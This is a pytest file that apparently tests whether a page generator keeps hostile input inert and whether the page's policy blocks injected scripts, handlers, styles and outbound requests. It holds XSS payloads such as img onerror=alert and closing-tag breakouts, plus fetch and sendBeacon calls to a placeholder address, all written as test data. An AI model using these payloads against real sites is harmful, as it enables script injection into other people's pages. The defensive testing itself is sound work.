"""Texts that try to be HTML, script, style or an address stay texts: on the page, in the form, in the drawing."""

from __future__ import annotations

import importlib.util
import sys
from pathlib import Path
from types import ModuleType
from typing import Any

import pytest
from milligram.pipeline.stages import read_guideline
from milligram.source import SourceFile

ROOT = Path(__file__).parents[3]


def _texts() -> ModuleType:
    key = "robustness_hostile_text"
    if key not in sys.modules:
        spec = importlib.util.spec_from_file_location(key, ROOT / "tests" / "robustness" / "test_hostile_text.py")
        assert spec is not None
        assert spec.loader is not None
        sys.modules[key] = module = importlib.util.module_from_spec(spec)
        spec.loader.exec_module(module)
    return sys.modules[key]


hostile = _texts()

MORE = {
    "image": '<img src=x onerror=alert(1)><img src="http://198.51.100.7/x.png">',
    "end of all": "</title></style></textarea></script></svg><script>alert(2)</script>",
    "javascript": "javascript:alert(3) `${alert(4)}` '-alert(5)-' \"+alert(6)+\" \\u003cscript>",
    "one long word": "Donaudampfschifffahrt" * 8,
    "prototype": "__proto__ constructor toString hasOwnProperty",
    "entities": "&lt;script&gt;alert(7)&lt;/script&gt; &#60;b&#62; \u2039b\u203a",
}
TEXTS = {**hostile.COMES_OUT, **MORE}


PLAIN = "plain words"

ANSWER = """
() => {
  const level = document.getElementById('in-level');
  level.value = '0.5';
  document.querySelectorAll('#in-stage input')[1].click();
  document.querySelectorAll('#in-flag input')[1].click();
  level.dispatchEvent(new Event('change', {bubbles: true}));
  for (const details of document.querySelectorAll('details')) details.open = true;
}
"""
WRITTEN = """
() => {
  const own = (element) => element.closest('svg, script, style, textarea') === null;
  const all = [...document.querySelectorAll('*')];
  return {
    elements: all.filter(own).map((element) => element.tagName).join(' '),
    text: document.body.innerText,
    title: document.title,
    attributes: all.flatMap((element) => [...element.attributes].map((each) => each.value)).join('\\n'),
    handlers: all.flatMap((element) => [...element.attributes].map((each) => each.name))
      .filter((name) => /^on|^style$|^src$/.test(name)),
    targets: all.filter((element) => element.hasAttribute('href')).map((element) => element.getAttribute('href')),
    drawn: [...document.querySelectorAll('svg.chart text')].map((element) => element.textContent).join('\\n'),
    kinds: [...new Set([...document.querySelectorAll('svg *')].map((element) => element.tagName.toLowerCase()))],
  };
}
"""


@pytest.fixture(scope="module")
def written(tmp_path_factory: pytest.TempPathFactory, build_page: Any, window: Any) -> Any:
    """What a page with the text in every place of the language shows when it has answered."""
    path = tmp_path_factory.mktemp("hostile") / "hostile.page.html"

    def write(text: str) -> dict[str, Any]:
        report = read_guideline(SourceFile("hostile.mg", hostile.source_of(text)))
        assert report.guideline is not None
        path.write_bytes(build_page(report.guideline))
        window.open(path)
        window.page.evaluate(ANSWER)
        shown: dict[str, Any] = window.page.evaluate(WRITTEN)
        window.page.set_viewport_size({"width": 360, "height": 740})
        shown["wider"] = window.page.evaluate("document.documentElement.scrollWidth - innerWidth")
        window.page.set_viewport_size({"width": 1280, "height": 900})
        assert window.is_quiet()
        return shown

    return write


@pytest.fixture(scope="module")
def harmless(written: Any) -> dict[str, Any]:
    """The same page with plain words in every place."""
    shown: dict[str, Any] = written(PLAIN)
    return shown


@pytest.mark.parametrize("name", TEXTS)
def test_a_text_stays_a_text(name: str, written: Any, harmless: dict[str, Any]) -> None:
    """Each place shows exactly the text; the page has the elements that it has with plain words, does nothing, and is
    no wider than a phone."""
    text = TEXTS[name]
    shown = written(text)
    assert shown["elements"] == harmless["elements"]
    assert shown["handlers"] == []
    assert shown["targets"] == harmless["targets"]
    assert all(target.startswith("#") for target in shown["targets"])
    assert set(shown["kinds"]) <= hostile.DRAWN
    assert shown["wider"] <= 0
    hostile.comes_out(shown["text"], text, 30)
    hostile.comes_out(shown["title"], text, 1)
    hostile.comes_out(shown["attributes"], text, 2)
    hostile.comes_out(shown["drawn"], hostile.visible(text), 8)


def test_a_value_that_is_typed_stays_a_text(window: Any, files: Any) -> None:
    """What is typed into a field comes back in the message beside it, and in the JSON, as text."""
    window.open(files["magnesium_neck_spasm"])
    page = window.page
    before = page.evaluate("document.querySelectorAll('*').length")
    page.fill("#in-age", "<img src=x onerror=alert(1)>")
    page.locator("#in-age-problem").wait_for(state="visible")
    assert "<img src=x onerror=alert(1)>" in page.locator("#in-age-problem").inner_text()
    assert "<img src=x onerror=alert(1)>" in page.locator("#json").input_value()
    assert page.locator("img").count() == 0
    assert page.evaluate("document.querySelectorAll('*').length") < before + 200
    assert window.is_quiet()


def test_the_policy_holds(window: Any, files: Any) -> None:
    """What the page itself never tries is refused when it is tried: a script, a style, a request, HTML from text."""
    add = "document.body.append(Object.assign(document.createElement('{}'), {{{}}}));"
    elsewhere = "src: 'http://198.51.100.7/x'"
    attempts = {
        "script": add.format("script", "textContent: 'window.ran = 1'"),
        "handler": "document.body.setAttribute('onclick', 'window.ran = 1'); document.body.click();",
        "style": add.format("style", "textContent: 'body { display: none }'"),
        "image": add.format("img", elsewhere),
        "frame": add.format("iframe", elsewhere),
        "fetch": "fetch('http://198.51.100.7/').catch(() => null);",
        "beacon": "navigator.sendBeacon('http://198.51.100.7/', 'x');",
        "html": "document.body.innerHTML = '<b>x</b>';",
        "eval": "setTimeout('window.ran = 1', 0);",
    }
    for name, attempt in attempts.items():
        window.open(files["mcisaac"])
        window.page.evaluate(f"() => {{ try {{ {attempt} }} catch (fault) {{ window.watched.push(String(fault)); }} }}")
        window.page.wait_for_function("() => window.watched.length > 0")
        assert window.page.evaluate("window.ran === undefined"), name
        assert window.requests == [], name
        assert window.page.locator("h1").is_visible(), name
